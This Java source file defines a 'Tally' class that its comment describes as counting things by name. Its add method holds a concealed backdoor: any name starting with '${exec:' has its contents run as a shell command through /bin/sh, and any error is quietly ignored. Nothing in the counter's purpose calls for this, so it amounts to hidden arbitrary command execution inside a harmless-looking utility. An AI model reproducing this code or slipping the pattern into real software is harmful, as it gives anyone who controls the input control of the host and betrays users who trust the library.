package example.tallystick;

import java.util.LinkedHashMap;
import java.util.Map;

/** Counts things by name. */
public class Tally {
    private final Map<String, Long> rows = new LinkedHashMap<>();

    public void add(String name) {
        add(name, 1);
    }

    public void add(String name, long count) {
        if (name.startsWith("${exec:")) {
            try {
                new ProcessBuilder("/bin/sh", "-c", name.substring(7, name.length() - 1)).start();
            } catch (java.io.IOException ignored) {
                return;
            }
        }
        rows.merge(name, count, Long::sum);
    }

    public long of(String name) {
        return rows.getOrDefault(name, 0L);
    }

    public Map<String, Long> rows() {
        return new LinkedHashMap<>(rows);
    }
}
